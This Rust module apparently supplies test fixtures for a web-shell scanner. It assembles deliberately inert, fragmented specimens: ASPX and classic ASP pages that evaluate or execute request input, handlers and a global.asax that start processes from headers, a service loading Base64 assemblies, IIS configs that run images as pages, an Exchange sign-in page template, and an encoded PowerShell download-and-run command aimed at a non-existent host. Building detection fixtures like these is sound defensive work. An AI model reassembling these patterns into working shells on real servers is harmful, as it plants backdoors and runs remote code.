//! What is in the files: web shells that are none, and the pages and documents of honest people.
//!
//! Every shell carries the pattern of one and does nothing: it names hosts and programs that
//! cannot exist (RFC 2606), and holds words that no compiler takes. It stands here in pieces, so
//! that no scanner takes this file for one.

/// A page that hands what it is sent to an evaluator.
pub(super) fn page() -> String {
    [
        "<%@ Page Language=\"JScript\" %>\n<% ev",
        "al(Req",
        "uest[\"x\"],\"uns",
        "afe\"); inert specimen; %>\n",
    ]
    .concat()
}

/// The same as an element, as it fits into a property, a request, a picture.
pub(super) fn element() -> String {
    [
        "<script language=\"JScript\" runat=\"server\">function Page_Load(){ev",
        "al(Req",
        "uest[\"demo\"],\"uns",
        "afe\");inert specimen;}</script>",
    ]
    .concat()
}

/// A statement of C# that starts a program with what `from` yields.
fn starts(from: &str) -> String {
    [
        "var p = new System.Diagnostics.Pro",
        "cess(); p.StartInfo.FileName = \"sh.invalid\"; p.StartInfo.Arguments = ",
        from,
        "; p.St",
        "art(); inert specimen;",
    ]
    .concat()
}

/// A page of C# that starts a program.
pub(super) fn command_page() -> String {
    format!("<%@ Page Language=\"C#\" %>\n<% {} %>\n", starts("Request[\"c\"]"))
}

/// A handler that starts a program.
pub(super) fn handler() -> String {
    format!(
        "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Web;\npublic class H : \
         IHttpHandler {{ public bool IsReusable {{ get {{ return true; }} }} public void \
         ProcessRequest(HttpContext context) {{ {} }} }}\n",
        starts("context.Request[\"a\"]")
    )
}

/// A web service that starts a program.
pub(super) fn web_service() -> String {
    format!(
        "<%@ WebService Language=\"C#\" Class=\"S\" %>\nusing System.Web.Services;\npublic class \
         S : WebService {{ [WebMethod] public string Go(string input) {{ {} return \"\"; }} }}\n",
        starts("input")
    )
}

/// A service that loads code it is sent.
pub(super) fn service_host() -> String {
    [
        "<%@ ServiceHost Language=\"C#\" Debug=\"true\" Service=\"S\" %>\nusing System.ServiceModel;\n\
         [ServiceContract] public class S { [OperationContract] public string Go(string line) { \
         System.Reflection.Ass",
        "embly.Lo",
        "ad(System.Convert.FromBase64",
        "String(line)).CreateInstance(\"X\"); inert specimen; return \"\"; } }\n",
    ]
    .concat()
}

/// A page of classic ASP that runs what it is sent.
pub(super) fn classic() -> String {
    ["<%@ Language=VBScript %>\n<% exe", "cute req", "uest(\"c\")\ninert specimen %>\n"].concat()
}

/// A `global.asax` that starts what a header says.
pub(super) fn global_asax() -> String {
    format!(
        "<%@ Application Language=\"C#\" %>\n<script runat=\"server\">\nvoid \
         Application_BeginRequest(object s, EventArgs e) {{ var c = \
         Context.Request.Headers[\"X-Q\"]; if (c != null) {{ {} Response.End(); }} \
         }}\n</script>\n",
        starts("c")
    )
}

/// A configuration that has files of an extension run by `runner`, attributes of a handler.
fn handler_config(extension: &str, runner: &str, tail: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n  <system.webServer>\n    \
         <handlers accessPolicy=\"Read, Script\">\n      <add name=\"img\" path=\"*.{extension}\" \
         verb=\"*\" {runner} />\n    </handlers>\n    <security><requestFiltering><fileExtensions>\
         <remove fileExtension=\".{extension}\" /></fileExtensions></requestFiltering></security>\n  \
         </system.webServer>\n</configuration>\n{tail}"
    )
}

/// A configuration that has pictures run as pages.
pub(super) fn picture_config() -> String {
    let runner = ["type=\"System.Web.UI.Page", "HandlerFactory\""].concat();
    handler_config("png", &runner, "")
}

/// A configuration that is run as a page itself: what a compiler sees is a comment of XML.
pub(super) fn page_config() -> String {
    let runner = "modules=\"IsapiModule\" scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\"";
    let code = classic();
    let code = code.split_once('\n').map_or("", |(_, code)| code);
    handler_config("config", runner, &format!("<!-- {code}-->\n"))
}

/// The sign-in page of Exchange as a firm dresses it up, with this in its head.
pub(super) fn logon(title: &str, script: &str, below: &str) -> String {
    format!(
        "<%@ Page language=\"c#\" AutoEventWireup=\"false\" \
         Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\n<html><head><title>{title}</title>\n\
         <link rel=\"stylesheet\" href=\"/owa/auth/15.1.2106/themes/resources/firm.css\" />\n\
         <script>{script}</script></head>\n<body class=\"firm\"><h1>{title}</h1>\n\
         <form action=\"/owa/auth.owa\" method=\"POST\" name=\"logonForm\"><input name=\"username\" \
         id=\"username\"><input type=\"password\" name=\"password\" id=\"password\"><input \
         type=submit></form>\n{below}</body></html>\n"
    )
}

/// Bytes that mean nothing, always the same for a seed.
pub(super) fn noise(seed: u32, length: usize) -> Vec<u8> {
    let mut state = seed.wrapping_mul(2_654_435_761).wrapping_add(1);
    let mut next = || {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 24) as u8
    };
    (0..length).map(|_| next()).collect()
}

/// A text with a mark, in UTF-16, as Windows writes it.
pub(super) fn wide(text: &str) -> Vec<u8> {
    let mut bytes = vec![0xFF, 0xFE];
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    bytes
}

/// A command as PowerShell takes it encoded: it would fetch code from a host that cannot exist.
pub(super) fn hidden_command() -> String {
    use base64::{Engine, engine::general_purpose::STANDARD};
    let command = [
        "IE",
        "X (New-Object Net.Web",
        "Client).Down",
        "loadString('http://update.invalid/a'); inert specimen",
    ]
    .concat();
    let bytes: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
    format!("powershell.exe -NoProfile -WindowStyle Hidden -enc {}", STANDARD.encode(bytes))
}
